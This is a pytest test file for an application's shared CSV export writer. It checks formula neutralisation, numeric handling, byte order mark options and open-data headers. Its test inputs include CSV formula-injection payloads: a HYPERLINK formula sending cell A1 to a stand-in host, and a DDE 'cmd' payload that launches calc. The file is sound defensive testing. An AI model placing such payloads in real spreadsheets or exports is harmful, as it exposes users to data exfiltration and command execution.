"""The shared CSV writer: no cell a spreadsheet would evaluate, numbers stay numbers, optional byte order
mark; every CSV export goes through it; the open-data header has no repeated column."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.procedures.obligation_publication.services import PublicFormat, open_data_columns, open_data_csv
from app.services.csv_export import BOM, csv_text, parse_bom, safe_cell
from workflows.obligation_publication import DEFAULT_FORMATS

ROOT = Path(__file__).resolve().parents[2]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://x.example/?"&A1;"clic")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_formula_cells_are_written_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert read(csv_text([["a", value]])) == [["a", "'" + value]]


@pytest.mark.parametrize("value", [-12.5, -3, 0, Decimal("-1500.50"), 42])
def test_numbers_stay_numbers(value: float | Decimal) -> None:
    assert safe_cell(value) == value
    assert read(csv_text([[value]])) == [[str(value)]]


def test_other_values() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(True) == "true"
    assert safe_cell({"b": 1, "a": "=x"}) == '{"a":"=x","b":1}'
    assert safe_cell(["-x"]) == '["-x"]'
    assert safe_cell("texto - con guion") == "texto - con guion"


@given(st.lists(st.lists(st.text(max_size=30), min_size=1, max_size=5), min_size=1, max_size=5))
def test_any_text_reads_back_as_itself_or_neutralised(rows: list[list[str]]) -> None:
    back = read(csv_text(rows))
    assert len(back) == len(rows)
    for written, read_back in zip(rows, back, strict=True):
        for original, cell in zip(written, read_back, strict=True):
            if original.startswith(DANGEROUS):
                assert cell == "'" + original
            else:
                assert cell == original
            assert not cell.startswith(DANGEROUS)


def test_byte_order_mark_only_when_asked() -> None:
    rows = [["a", "b"], ["1", "2"]]
    assert csv_text(rows) == "a,b\r\n1,2\r\n"
    assert csv_text(rows, bom=True) == BOM + "a,b\r\n1,2\r\n"
    assert csv_text(rows, bom=True).encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert [parse_bom(v) for v in (None, "", "0", "no", "1", "sí", "true")] == [False] * 4 + [True] * 3
    with pytest.raises(ValueError, match="bom"):
        parse_bom("quizás")


def test_every_open_data_header_has_distinct_columns() -> None:
    for fmt in DEFAULT_FORMATS:
        public = PublicFormat(fmt["code"], fmt["title"], fmt["legal_basis"], list(fmt["fields"]), [])
        columns = open_data_columns(public)
        assert len(columns) == len(set(columns)), (fmt["code"], columns)
        assert read(open_data_csv(public)) == [columns]


def test_no_export_writes_csv_but_through_the_shared_writer() -> None:
    writers = [
        path.relative_to(ROOT).as_posix()
        for path in sorted((ROOT / "app").rglob("*.py"))
        if "csv.writer(" in path.read_text(encoding="utf-8") or "csv.DictWriter(" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["app/services/csv_export.py"]
